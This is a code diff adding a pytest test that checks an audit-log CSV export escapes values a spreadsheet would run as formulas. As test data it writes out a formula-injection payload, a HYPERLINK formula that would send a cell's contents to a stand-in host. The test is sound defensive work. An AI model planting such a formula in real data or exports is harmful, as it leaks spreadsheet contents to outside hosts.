@@ -143,3 +143,15 @@ def test_a_refused_request_is_recorded_for_the_auditors(county_a):
     assert api_as(county_a, None).get("/api/v1/audit/records/").status_code == 401
     with tenant_context(county_a):
         assert not AuditRecord.objects.filter(action="access.denied", seq__gt=before).exists()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_export_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(county_a, start):
+    """A label comes from whoever acted (a connected system's name, an operator's label)."""
+    auditor = api_as(county_a, StaffRole.AUDITOR)
+    label = f'{start}HYPERLINK("http://x/"&A2)'
+    with tenant_context(county_a):
+        audit_record(action="test.formula", actor_label=label, object_type="case", object_id="f1")
+    export = auditor.get("/api/v1/audit/records/export/", {"action": "test.formula"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
+    assert rows and all(not value.startswith(start) for row in rows for value in row.values() if value)
